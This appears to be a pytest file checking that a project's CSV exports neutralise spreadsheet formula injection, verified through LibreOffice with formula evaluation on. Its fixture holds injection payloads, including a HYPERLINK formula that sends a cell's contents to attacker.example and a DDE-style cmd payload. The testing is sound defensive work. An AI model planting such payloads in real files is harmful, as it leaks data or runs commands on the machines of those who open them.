"""Open data that no spreadsheet evaluates: every CSV file planpress writes, opened in
LibreOffice Calc with formula evaluation on, holds no formula; and the value of each cell is
the plan's, once the `'` before a would-be formula is removed."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from support import MINIMAL, write_data

from planpress.core.load import load_plan
from planpress.exchange.cells import FORMULA_STARTS, neutralise, restore
from planpress.exchange.csvfiles import TEXT_KINDS, csv_bytes
from planpress.exchange.datapackage import data_package
from planpress.exchange.opendata import open_data_files
from planpress.exchange.tables import TABLES
from planpress.versions.build import BuildVersion

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&B3,"Click")'
HOSTILE = {
    **MINIMAL,
    "actions/skills.yml": MINIMAL["actions/skills.yml"]
    .replace("title: First action", "title: '" + HYPERLINK.replace("'", "''") + "'")
    .replace("title: Second action", "title: '+1+1'")
    .rstrip(" ")
    + """\
          summary: '-2+3'
          outputs:
            - '@SUM(1,2)'
            - "\\tcmd|' /C calc'!A0"
        """,
    "organisations.yml": MINIMAL["organisations.yml"].replace(
        "name: Test Council", 'name: "\'=already quoted"'
    ),
    "glossary.yml": """\
        "=1+1": "-1+1"
        "@A1": "+A1"
        """,
}


@pytest.fixture
def hostile_csvs(tmp_path: Path) -> dict[str, bytes]:
    loaded = load_plan(write_data(tmp_path / "data", HOSTILE))
    assert loaded.problems == [], loaded.problems
    assert loaded.plan is not None
    return {f"{table.name}.csv": csv_bytes(table, loaded.plan) for table in TABLES}


def test_every_text_cell_that_could_be_a_formula_is_marked(hostile_csvs: dict[str, bytes]) -> None:
    seen = set()
    for name, content in hostile_csvs.items():
        table = next(t for t in TABLES if f"{t.name}.csv" == name)
        rows = list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))
        for row in rows[1:]:
            for column, cell in zip(table.columns, row, strict=True):
                if column.kind in TEXT_KINDS:
                    assert not cell.startswith(FORMULA_STARTS), (name, column.name, cell)
                    seen.add(restore(cell))
                else:  # numbers, dates and true/false are never touched
                    assert not cell.startswith("'"), (name, column.name, cell)
    for value in (HYPERLINK, "+1+1", "-2+3", "'=already quoted", "=1+1", "-1+1", "@A1", "+A1"):
        assert value in seen, value
    assert any(value.startswith("@SUM(1,2)") for value in seen)


@given(st.text())
def test_restore_gives_back_every_value(value: str) -> None:
    written = neutralise(value)
    assert not written.startswith(FORMULA_STARTS)
    assert restore(written) == value


def test_the_data_package_says_how_text_is_written(tmp_path: Path) -> None:
    loaded = load_plan(write_data(tmp_path / "data", HOSTILE))
    assert loaded.plan is not None
    preview = BuildVersion(None, None, None, None, [], None, None)
    files = open_data_files(loaded.plan, preview, site_url=None, workbook=False)
    csvs = [f for f in files if f.name.endswith(".csv")]
    package = data_package(loaded.plan, preview, csvs)
    actions = next(r for r in package["resources"] if r["name"] == "actions")
    fields = {f["name"]: f for f in actions["schema"]["fields"]}
    assert "remove that first '" in fields["title"]["description"]
    assert "remove that first '" not in fields["budget_amount"]["description"]


@pytest.mark.skipif(
    SOFFICE is None and os.environ.get("CI") != "true", reason="LibreOffice is not installed"
)
def test_libreoffice_finds_no_formula_in_any_csv(
    hostile_csvs: dict[str, bytes], tmp_path: Path
) -> None:
    assert SOFFICE is not None, "CI must have LibreOffice Calc: .ci/run installs it"
    folder = tmp_path / "csv"
    folder.mkdir()
    for name, content in hostile_csvs.items():
        (folder / name).write_bytes(content)
    out = tmp_path / "opened"
    # Comma, double quote, UTF-8, from line 1, standard columns, ..., evaluate formulas: on.
    options = "44,34,76,1,,0,false,true,false,false,false,-1,true"
    done = subprocess.run(
        [
            SOFFICE,
            f"-env:UserInstallation=file://{tmp_path / 'profile'}",
            "--headless",
            f"--infilter=CSV:{options}",
            "--convert-to",
            "xlsx:Calc MS Excel 2007 XML",
            "--outdir",
            str(out),
            *sorted(str(path) for path in folder.iterdir()),
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    converted = sorted(out.glob("*.xlsx"))
    assert len(converted) == len(hostile_csvs), done.stdout + done.stderr
    texts = []
    for path in converted:
        sheet = load_workbook(path).active
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                assert cell.data_type != "e", (path.name, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    # the would-be formulas arrive as text, whole
    assert any(HYPERLINK in text for text in texts)
    assert any("=1+1" in text for text in texts)
